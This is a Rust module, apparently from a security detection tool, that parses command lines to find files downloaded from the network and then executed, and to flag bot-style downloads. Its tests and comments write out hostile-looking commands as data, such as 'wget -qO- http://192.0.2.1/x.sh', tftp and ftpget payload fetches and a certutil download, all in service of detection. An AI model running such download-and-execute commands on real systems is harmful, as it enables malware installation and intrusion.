//! A scene's commands → what was downloaded and then run, however the two are written: `curl | sh`, one line,
//! siblings, an archive between. Deliberately absent: whether it matters (the patterns that ask decide).

use std::collections::HashMap;

use super::command::{Command, base_name, runs_text};
use super::paths::{in_temp, is_hidden, is_ip, is_loopback, url_file_name, url_parts};
use super::tree::{Scene, is_windows};

/// Something from the net was run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Flow {
    /// Downloading node, running node: the same one where one line does both.
    pub(crate) nodes: Vec<usize>,
    /// Downloaded from a bare address, or by a bot's means: nobody installs software like that.
    pub(crate) hostile: bool,
    /// Where it was run from, as written; empty for a pipe.
    pub(crate) path: String,
}

/// One download, as its command says it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Download {
    pub(crate) url: String,
    /// `None`: to the standard output.
    pub(crate) target: Option<String>,
    pub(crate) hostile: bool,
}

/// Flows of one tree; more say nothing new.
const MAX_FLOWS: usize = 1000;
/// `curl | tr -d | base64 -d | sh`.
const MAX_PIPE: usize = 6;

const UNPACKERS: &[&str] = &["tar", "unzip", "gunzip", "gzip", "bunzip2", "xz", "7z", "7za", "cpio", "upx", "expand"];

/// Whether the commands of one node can begin a flow: a download that is kept, or handed on. What a sensor saw
/// written is not known here.
pub(crate) fn may_flow(commands: &[Command<'_>]) -> bool {
    let handed_on = |it: &Command<'_>| it.feeds.is_some() || commands.len() > 1;
    commands.iter().any(|it| download(it).is_some_and(|download| download.target.is_some() || handed_on(it)))
}

/// Cost: linear in the steps; one map entry per downloaded file name.
pub(crate) fn flows(scene: &Scene<'_, '_>) -> Vec<Flow> {
    struct Saved {
        node: usize,
        path: String,
        hostile: bool,
    }
    let mut saved: HashMap<String, Saved> = HashMap::new();
    let mut unpacked: Option<(usize, bool)> = None;
    let mut piped: Vec<Option<bool>> = vec![None; scene.steps.len()];
    let mut out = Vec::new();
    let mut image_of = usize::MAX;
    for (index, step) in scene.steps.iter().enumerate() {
        if out.len() >= MAX_FLOWS {
            break;
        }
        let command = &step.command;
        let node = &scene.tree.nodes[step.node];
        if let Some(download) = download(command) {
            let feeds_a_run = command.feeds.as_deref().is_some_and(|it| it.is_empty() || runs_text(it));
            if feeds_a_run && download.target.is_none() {
                out.push(Flow { nodes: vec![step.node], hostile: download.hostile, path: String::new() });
            }
            let written = node.files_written.iter().map(|path| (*path).to_owned());
            for path in download.target.clone().into_iter().chain(written.take(16)) {
                let hostile = download.hostile || plain_http_to_dropzone(&download.url, &path);
                saved.insert(key(&path), Saved { node: step.node, path, hostile });
            }
            if download.target.is_none() {
                piped[index] = Some(download.hostile);
            }
            continue;
        }
        // A pipe from a download into an interpreter that reads its standard input.
        let mut source = step.from;
        for _ in 0..MAX_PIPE {
            let Some(at) = source else { break };
            if let Some(hostile) = piped[at] {
                if reads_stdin(command) {
                    out.push(Flow { nodes: vec![scene.steps[at].node, step.node], hostile, path: String::new() });
                }
                // `curl u | base64 -d > x`.
                for path in &command.writes {
                    let path = path.clone().into_owned();
                    saved.insert(key(&path), Saved { node: step.node, path, hostile });
                }
                break;
            }
            source = scene.steps[at].from;
        }
        if command.is(UNPACKERS)
            && let Some(it) = command.args().find_map(|arg| saved.get(&key(arg)))
        {
            unpacked = Some((it.node, it.hostile));
        }
        if command.is(&["mv", "cp"])
            && let (Some(from), Some(to)) = (command.operands().next(), command.operands().last())
            && from != to
            && let Some(it) = saved.get(&key(from))
        {
            let copy = Saved { node: it.node, path: to.to_owned(), hostile: it.hostile };
            saved.insert(key(to), copy);
        }
        // The sensor's own word for what a node runs counts once, at its first command.
        let image = (image_of != step.node).then_some(node.file_path).flatten();
        image_of = step.node;
        let before = out.len();
        for path in scene.runs(step).chain(image) {
            if out.len() > before {
                break;
            }
            let is_script = path != command.path();
            let located = path.contains(['/', '\\']) || (is_script && !is_windows(node));
            if let Some(it) = saved.get(&key(path)).filter(|it| located && same_file(&it.path, path)) {
                out.push(Flow { nodes: vec![it.node, step.node], hostile: it.hostile, path: path.to_owned() });
            } else if let Some((from, hostile)) = unpacked
                && (path.starts_with("./") || in_temp(path) || (path.contains('/') && is_hidden(path)))
            {
                out.push(Flow { nodes: vec![from, step.node], hostile, path: path.to_owned() });
            }
        }
    }
    // Package managers and what they start run what they downloaded all day.
    out.retain(|flow| flow.nodes.iter().all(|&node| !scene.packaged[node]));
    for flow in &mut out {
        flow.nodes.dedup();
    }
    out
}

/// Files are found again by name: the folder is often only known to the shell.
fn key(path: &str) -> String {
    base_name(path).to_lowercase()
}

/// Two spellings may be one file unless both are absolute and differ.
fn same_file(a: &str, b: &str) -> bool {
    let absolute = |path: &str| path.starts_with('/') || path.get(1..3) == Some(":\\");
    !(absolute(a) && absolute(b)) || a.eq_ignore_ascii_case(b)
}

/// An interpreter that is given no script of its own.
fn reads_stdin(command: &Command<'_>) -> bool {
    let first = command.args().next();
    // `perl -ne`, `python -m`: programs that only read the data.
    (command.is_shell() && first.is_none_or(|arg| arg.starts_with('-') && arg != "-c"))
        || (command.is_interpreter() && first.is_none_or(|arg| arg == "-"))
}

fn plain_http_to_dropzone(url: &str, path: &str) -> bool {
    let (scheme, host, _) = url_parts(url);
    !scheme.eq_ignore_ascii_case("https")
        && !is_loopback(host)
        && (in_temp(path) || (path.starts_with('/') && is_hidden(path)))
}

fn is_hostile(url: &str, command: &Command<'_>) -> bool {
    let (_, host, path) = url_parts(url);
    if is_loopback(host) {
        return false;
    }
    is_ip(host) || command.busybox || command.is(&["tftp", "ftpget", "certutil", "bitsadmin"]) || is_hidden(path)
}

/// Reads a download out of a command, if it is one.
pub(crate) fn download(command: &Command<'_>) -> Option<Download> {
    let program = command.program_in_small();
    let url = || command.args().find(|arg| arg.contains("://") && !arg.starts_with('-'));
    let (url, target) = match &*program {
        "wget" | "wget2" | "curl" | "lwp-download" | "lwp-request" | "fetch" | "axel" | "aria2c" => {
            let url = url().or_else(|| bare_address(command))?;
            (url.to_owned(), saved_as(command, program != "curl" && program != "lwp-request", url))
        }
        "tftp" | "atftp" => {
            let remote = value_of(command, "-r").or_else(|| value_after(command, "get"))?;
            let host = command.operands().find(|arg| is_ip(arg)).unwrap_or_default();
            (format!("tftp://{host}/{remote}"), Some(value_of(command, "-l").unwrap_or(remote).to_owned()))
        }
        "ftpget" => {
            let host = command.args().find(|arg| is_ip(arg))?;
            let mut files = command.args().skip_while(|arg| *arg != host).skip(1);
            let local = files.next()?;
            (format!("ftp://{host}/{}", files.next().unwrap_or(local)), Some(local.to_owned()))
        }
        "certutil" | "bitsadmin" => {
            let url = url()?;
            (url.to_owned(), command.args().skip_while(|arg| *arg != url).nth(1).map(str::to_owned))
        }
        "powershell" | "pwsh" => return powershell_download(command),
        // Bots rename wget and curl; their options stay.
        _ if !command.is(&["git", "ssh", "docker", "openssl", "echo", "printf", "grep", "sed", "mount"]) => {
            let url = url().filter(|url| url.starts_with("http"))?;
            let is_wget = value_of(command, "-O").is_some();
            if !is_wget && value_of(command, "-o").is_none() {
                return None;
            }
            (url.to_owned(), saved_as(command, is_wget, url))
        }
        _ => return None,
    };
    let hostile = is_hostile(&url, command);
    Some(Download { url, hostile, target: target.filter(|it| !it.is_empty()) })
}

/// `wget 192.0.2.1/x`: no scheme, but an address.
fn bare_address<'c>(command: &'c Command<'_>) -> Option<&'c str> {
    command.operands().find(|arg| {
        let (_, host, path) = url_parts(arg);
        !path.is_empty() && !arg.starts_with('/') && host.contains('.') && host.len() > 3 && !host.starts_with('.')
    })
}

/// The file that wget's or curl's options name; `None` for the standard output.
fn saved_as(command: &Command<'_>, is_wget: bool, url: &str) -> Option<String> {
    let mut folder = None;
    let mut args = command.args();
    let mut remote_name = is_wget;
    let letter = if is_wget { 'O' } else { 'o' };
    while let Some(arg) = args.next() {
        if let Some(name) = arg.strip_prefix("--output-document=").or_else(|| arg.strip_prefix("--output=")) {
            return (name != "-").then(|| name.to_owned());
        }
        if matches!(arg, "--output-document" | "--output") {
            return args.next().filter(|name| *name != "-").map(str::to_owned);
        }
        if arg == "-P" && is_wget {
            folder = args.next();
            continue;
        }
        let Some(cluster) = arg.strip_prefix('-').filter(|it| !it.starts_with('-')) else { continue };
        if !is_wget && cluster.bytes().take_while(u8::is_ascii_alphabetic).any(|b| b == b'O') {
            remote_name = true;
        } else if let Some(at) =
            cluster.find(letter).filter(|at| cluster.bytes().take(*at).all(|b| b.is_ascii_alphabetic()))
        {
            let name = match &cluster[at + 1..] {
                "" => args.next()?,
                name => name,
            };
            if name == "-" {
                remote_name = false;
                break;
            }
            return Some(name.to_owned());
        }
    }
    if let Some(file) = command.writes.first() {
        return Some(file.clone().into_owned());
    }
    if !remote_name {
        return None;
    }
    let name = url_file_name(url);
    Some(folder.map_or_else(|| name.to_owned(), |folder| format!("{}/{name}", folder.trim_end_matches('/'))))
}

fn value_of<'c>(command: &'c Command<'_>, option: &str) -> Option<&'c str> {
    value_after(command, option).filter(|value| !value.starts_with('-'))
}

fn value_after<'c>(command: &'c Command<'_>, word: &str) -> Option<&'c str> {
    command.args().skip_while(|arg| *arg != word).nth(1)
}

/// `(New-Object Net.WebClient).DownloadFile('u','f')` and `iwr u -OutFile f`.
fn powershell_download(command: &Command<'_>) -> Option<Download> {
    let text = command.text();
    let lower = text.to_ascii_lowercase();
    let (url, target) = if let Some(at) = lower.find("downloadfile(") {
        let mut quoted = text.get(at..)?.split(['\'', '"']).skip(1).step_by(2);
        (quoted.next()?.to_owned(), quoted.next()?.to_owned())
    } else {
        let at = lower.find("-outfile").or_else(|| lower.find(" -o "))?;
        let clean = |word: &str| word.trim_matches(['\'', '"', ';', ')', '(']).to_owned();
        let target = clean(text.get(at..)?.split_whitespace().nth(1)?);
        let start = lower.find("http://").or_else(|| lower.find("https://"))?;
        (clean(text.get(start..)?.split_whitespace().next()?), target)
    };
    let hostile = is_hostile(&url, command);
    Some(Download { url, target: Some(target), hostile })
}

#[cfg(test)]
mod tests {
    use super::super::command::commands;
    use super::*;

    fn check(line: &str, expect: Option<(&str, Option<&str>, bool)>) {
        let all = commands(line, line.contains(":\\"));
        let got = all.iter().find_map(download);
        let got = got.as_ref().map(|it| (it.url.as_str(), it.target.as_deref(), it.hostile));
        assert_eq!(got, expect, "{line}");
    }

    #[test]
    fn downloads_are_read_from_their_options() {
        check("wget -qO- http://192.0.2.1/x.sh", Some(("http://192.0.2.1/x.sh", None, true)));
        check("wget -q -O /tmp/a http://a.test/b", Some(("http://a.test/b", Some("/tmp/a"), false)));
        check("/bin/busybox wget http://a.test/b", Some(("http://a.test/b", Some("b"), true)));
        check("curl -fsSL https://a.test/i", Some(("https://a.test/i", None, false)));
        check("curl -LO https://a.test/i.sh", Some(("https://a.test/i.sh", Some("i.sh"), false)));
        check("curl -sLo /tmp/x https://a.test/i", Some(("https://a.test/i", Some("/tmp/x"), false)));
        check("curl 192.0.2.9/i > y", Some(("192.0.2.9/i", Some("y"), true)));
        check("wget -P /tmp http://a.test/.y/b", Some(("http://a.test/.y/b", Some("/tmp/b"), true)));
        check("tftp -g -r mips -l /tmp/m 192.0.2.7", Some(("tftp://192.0.2.7/mips", Some("/tmp/m"), true)));
        check("tftp 192.0.2.7 -c get t.sh", Some(("tftp://192.0.2.7/t.sh", Some("t.sh"), true)));
        check("ftpget -u anonymous 192.0.2.7 a.sh b.sh", Some(("ftp://192.0.2.7/b.sh", Some("a.sh"), true)));
        check(
            r"certutil.exe -urlcache -split -f http://a.test/x C:\x.exe",
            Some(("http://a.test/x", Some(r"C:\x.exe"), true)),
        );
        check("cd1 -fsSL http://a.test/x -o /tmp/y", Some(("http://a.test/x", Some("/tmp/y"), false)));
        check("git clone https://a.test/x", None);
        check("wget --version", None);
    }
}
